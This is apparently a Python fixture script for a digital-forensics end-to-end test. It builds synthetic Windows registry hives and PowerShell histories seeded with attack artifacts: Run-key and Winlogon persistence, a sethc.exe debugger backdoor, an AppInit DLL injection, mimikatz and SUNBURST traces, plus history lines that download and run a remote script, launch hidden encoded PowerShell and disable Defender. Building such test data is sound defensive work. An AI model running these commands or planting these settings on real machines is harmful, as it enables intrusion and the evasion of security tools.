#!/usr/bin/env python3
"""win_art.py DIR - the Windows execution and persistence artifacts of
tests/e2e/winart.bats: hivexsh scripts for SOFTWARE (Run keys, Winlogon,
IFEO, AppInit_DLLs, ProfileList), SYSTEM (ShimCache of Windows 10, BAM,
DAM), the NTUSER.DAT of bob and alice (Run, Winlogon, UserAssist) and
Amcache.hve (both layouts), and the users' PSReadLine histories, under
DIR/root/ laid out as the volume.  win_art.py --embed HIVE NAME sets a
hive's embedded file name.  SHIM_FORMAT=win7-x64|win7-x86|win8.0|
win8.1|win10 picks the ShimCache layout (default win10); SHIM_HOSTILE=1
makes its second entry claim 2 GiB (Windows 10 layout)."""
import codecs
import os
import struct
import sys

from hivescript import Script, hexval


def embed(path, name):
    """Set the base block's embedded file name (RegRipper guesses the
    hive's kind from it) and its checksum."""
    b = bytearray(open(path, "rb").read())
    b[48:112] = b"\0" * 64
    n = name.encode("utf-16-le")[:64]
    b[48:48 + len(n)] = n
    csum = 0
    for i in range(0, 508, 4):
        csum ^= struct.unpack_from("<I", b, i)[0]
    struct.pack_into("<I", b, 508, csum)
    open(path, "wb").write(bytes(b))


if sys.argv[1] == "--embed":
    embed(sys.argv[2], sys.argv[3])
    sys.exit(0)
d = sys.argv[1]
SUNBURST_SHA1 = "16505d0b929d80ad1680f993c02954cfd3772207"
FT_2023 = 133444800000000000          # 2023-11-15T00:00:00Z
HOUR = 36000000000


def qword(v):
    """hivexsh's own "qword:" writes garbage in the high half"""
    return hexval(struct.pack("<Q", v), 11)


def ft(n_hours):
    return FT_2023 + n_hours * HOUR


BOB = "S-1-5-21-111-222-333-1001"
ALICE = "S-1-5-21-111-222-333-1002"
CV = "Microsoft\\Windows\\CurrentVersion\\"
NT = "Microsoft\\Windows NT\\CurrentVersion\\"

# --- SOFTWARE ---------------------------------------------------------
s = Script(d)
s.key(NT + "ProfileList\\" + BOB,
      [("ProfileImagePath", "expandstring:C:\\Users\\bob")])
s.key(NT + "ProfileList\\" + ALICE,
      [("ProfileImagePath", "expandstring:%SystemDrive%\\Users\\alice")])
s.key(CV + "Run", [
    ("OneDrive", "string:\"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe\" /background"),
    ("Updater", "string:C:\\Users\\Public\\upd.exe -silent")])
s.key(CV + "RunOnce", [("Setup", "string:C:\\Windows\\System32\\setup.exe /r")])
s.key("Wow6432Node\\" + CV + "Run",
      [("Helper32", "expandstring:C:\\ProgramData\\helper\\h.exe")])
s.key(NT + "Winlogon", [("Shell", "string:explorer.exe"),
                        ("Userinit", "string:C:\\Windows\\system32\\userinit.exe,"),
                        ("AutoAdminLogon", "string:0")])
s.key(NT + "Image File Execution Options\\sethc.exe",
      [("Debugger", "string:C:\\Windows\\System32\\cmd.exe")])
s.key(NT + "Image File Execution Options\\notepad.exe",
      [("GlobalFlag", "dword:0x200")])
s.key(NT + "Windows", [("AppInit_DLLs", "string:C:\\ProgramData\\evil\\inject.dll"),
                       ("LoadAppInit_DLLs", "dword:0x1")])
s.write("software.hsh")

# --- NTUSER.DAT -------------------------------------------------------
UA = "Software\\" + CV + "Explorer\\UserAssist\\"


def ua72(count, focus, ms, last):
    b = bytearray(72)
    struct.pack_into("<IIII", b, 0, 0, count, focus, ms)
    struct.pack_into("<fffff", b, 16, -1, -1, -1, -1, -1)
    struct.pack_into("<Q", b, 60, last)
    return bytes(b)


def rot13(s):
    return codecs.encode(s, "rot13")


s = Script(d)
s.key("Software\\" + CV + "Run", [
    ("Sync", "string:C:\\Users\\bob\\AppData\\Roaming\\sync\\sync.exe"),
    ("Teams", "string:\"C:\\Program Files\\Teams\\Teams.exe\" --system")])
s.key(UA + "{CEBFF5CD-ACE2-4F4F-9178-9926F41749EA}\\Count", [
    (rot13("{1AC14E77-02E7-4E5D-B744-2EB1AE5198B7}\\cmd.exe"),
     hexval(ua72(7, 3, 12345, ft(22)))),
    (rot13("C:\\Users\\bob\\Downloads\\gracious_truth.jpg"),
     hexval(ua72(1, 1, 500, ft(23)))),
    (rot13("UEME_CTLSESSION"), hexval(bytes(1612)))])
s.key(UA + "{F4E57C4B-2036-45F0-A9AB-443BCFE33D9F}\\Count", [
    (rot13("Microsoft.Windows.Explorer"), hexval(ua72(2, 0, 0, ft(20))))])
s.write("ntuser-bob.hsh")

s = Script(d)
s.key("Software\\" + NT + "Winlogon",
      [("Shell", "string:explorer.exe, C:\\Users\\alice\\AppData\\Local\\s.exe")])
s.write("ntuser-alice.hsh")

# --- SYSTEM: ShimCache, BAM, DAM --------------------------------------
SHIM = [("C:\\Windows\\System32\\cmd.exe", ft(1), 1),
        ("C:\\Users\\bob\\AppData\\Local\\Temp\\SolarWinds.Orion.Core.BusinessLayer.dll", ft(2), 0),
        ("C:\\ProgramData\\helper\\h.exe", ft(3), 1)]


def u16(p):
    return p.encode("utf-16-le")


def shim_win10(entries, header=0x34):
    out = bytearray(header)
    struct.pack_into("<I", out, 0, header)
    struct.pack_into("<I", out, 0x24 if header == 0x34 else 0x1c, len(entries))
    for i, (p, t, _) in enumerate(entries):
        body = struct.pack("<H", len(u16(p))) + u16(p) + struct.pack("<QI", t, 4) + b"abcd"
        n = len(body)
        if i == 1 and os.environ.get("SHIM_HOSTILE"):
            n = 0x7ffffff0     # the second entry claims 2 GiB
        out += b"10ts" + struct.pack("<II", 0x12345678, n) + body
    return bytes(out)


def shim_win8(entries, sig):
    out = bytearray(128)
    struct.pack_into("<I", out, 0, 0x80)
    for p, t, ex in entries:
        body = struct.pack("<H", len(u16(p))) + u16(p)
        body += struct.pack("<H", 0)
        body += struct.pack("<IIQI", 2 if ex else 0, 0, t, 2) + b"zz"
        out += sig + struct.pack("<II", 0, len(body)) + body
    return bytes(out)


def shim_win7(entries, x64):
    esz = 48 if x64 else 32
    hdr = bytearray(128)
    struct.pack_into("<II", hdr, 0, 0xbadc0fee, len(entries))
    tab = bytearray()
    strs = bytearray()
    base = 128 + esz * len(entries)
    for p, t, ex in entries:
        off = base + len(strs)
        n = len(u16(p))
        if x64:
            tab += struct.pack("<HHIQQIIQQ", n, n + 2, 0, off, t, 2 if ex else 0, 0, 0, 0)
        else:
            tab += struct.pack("<HHIQIIII", n, n + 2, off, t, 2 if ex else 0, 0, 0, 0)
        strs += u16(p) + b"\0\0"
    return bytes(hdr + tab + strs)


def shim(fmt, entries):
    if fmt == "win7-x64":
        return shim_win7(entries, True)
    if fmt == "win7-x86":
        return shim_win7(entries, False)
    if fmt == "win8.0":
        return shim_win8(entries, b"00ts")
    if fmt == "win8.1":
        return shim_win8(entries, b"10ts")
    return shim_win10(entries)


fmt = os.environ.get("SHIM_FORMAT", "win10")
with open(os.path.join(d, "shim.bin"), "wb") as f:
    f.write(shim(fmt, SHIM))
s = Script(d)
s.key("Select", [("Current", "dword:0x1"), ("Default", "dword:0x1")])
s.key("ControlSet001\\Control\\Session Manager\\AppCompatCache",
      [("AppCompatCache", hexval(shim(fmt, SHIM)))])
# not the current control set: never read
s.key("ControlSet002\\Control\\Session Manager\\AppCompatCache",
      [("AppCompatCache", hexval(shim(fmt, [("C:\\stale.exe", ft(0), 1)])))])


def bam(t):
    return hexval(struct.pack("<QQII", t, 0, 2, 0))


s.key("ControlSet001\\Services\\bam\\State\\UserSettings\\" + BOB, [
    ("\\Device\\HarddiskVolume2\\Users\\bob\\AppData\\Local\\Temp\\mimikatz.exe", bam(ft(5))),
    ("\\Device\\HarddiskVolume2\\Windows\\System32\\cmd.exe", bam(ft(4))),
    ("Version", "dword:0x1"), ("SequenceNumber", "dword:0x9")])
s.key("ControlSet001\\Services\\dam\\State\\UserSettings\\" + ALICE, [
    ("Microsoft.WindowsCalculator_8wekyb3d8bbwe", bam(ft(6)))])
s.key("ControlSet001\\Services\\bam\\UserSettings\\S-1-5-18", [
    ("\\Device\\HarddiskVolume2\\Windows\\System32\\svchost.exe", bam(ft(7)))])
s.write("system.hsh")

# --- Amcache.hve ------------------------------------------------------
s = Script(d)
IAF = "Root\\InventoryApplicationFile\\"
s.key(IAF + "solarwinds.orion|7d3c2a1b0e9f8a7b", [
    ("LowerCaseLongPath", "string:c:\\program files (x86)\\solarwinds\\orion\\solarwinds.orion.core.businesslayer.dll"),
    ("FileId", "string:0000" + SUNBURST_SHA1),
    ("Size", qword(1011032)),
    ("LinkDate", "string:03/24/2020 08:48:56"),
    ("ProductName", "string:solarwinds.orion.core.businesslayer"),
    ("Publisher", "string:solarwinds worldwide, llc"),
    ("Version", "string:2019.4.5200.9083"),
    ("Name", "string:SolarWinds.Orion.Core.BusinessLayer.dll")])
s.key(IAF + "notepad.exe|aa11bb22cc33dd44", [
    ("LowerCaseLongPath", "string:c:\\windows\\system32\\notepad.exe"),
    ("FileId", "string:0000" + "ab" * 20),
    ("Size", qword(201216)),
    ("LinkDate", "string:11/05/2071 02:17:45"),
    ("Name", "string:notepad.exe")])
s.key("Root\\File\\{11111111-2222-3333-4444-555555555555}\\1a2b", [
    ("15", "string:C:\\Users\\bob\\AppData\\Local\\Temp\\mimikatz.exe"),
    ("101", "string:0000" + "cd" * 20),
    ("0", "string:mimikatz"), ("1", "string:gentilkiwi"),
    ("6", "dword:0x000d2a00"),
    ("17", qword(ft(9))), ("f", "dword:0x5e79c878")])
s.write("amcache.hsh")

# --- PSReadLine -------------------------------------------------------
PSR = "AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine"
hist = {
    "bob": ["Get-Process",
            "IEX (New-Object Net.WebClient).DownloadString('http://avsvmcloud.com/a.ps1')",
            "powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AA==",
            "cd C:\\Temp"],
    # a command on two lines (a backquote ends the first), one longer
    # than the 64 KiB a command keeps
    "alice": ["whoami", "Get-ChildItem C:\\Users", "Get-Service `",
              "  | Where-Object Status -eq Running", "",
              "Write-Host " + "A" * 70000, "exit"],
}
for user, lines in hist.items():
    p = os.path.join(d, "root", "Users", user, *PSR.split("/"))
    os.makedirs(p, exist_ok=True)
    with open(os.path.join(p, "ConsoleHost_history.txt"), "w", newline="") as f:
        f.write("".join(l + "\r\n" for l in lines))
# another PowerShell host's history, UTF-8 with a byte order mark, LF
p = os.path.join(d, "root", "Users", "bob", *PSR.split("/"))
with open(os.path.join(p, "Visual Studio Code Host_history.txt"), "wb") as f:
    f.write(b"\xef\xbb\xbfSet-MpPreference -DisableRealtimeMonitoring $true\n"
            b"Write-Output 'caf\xc3\xa9'\n")
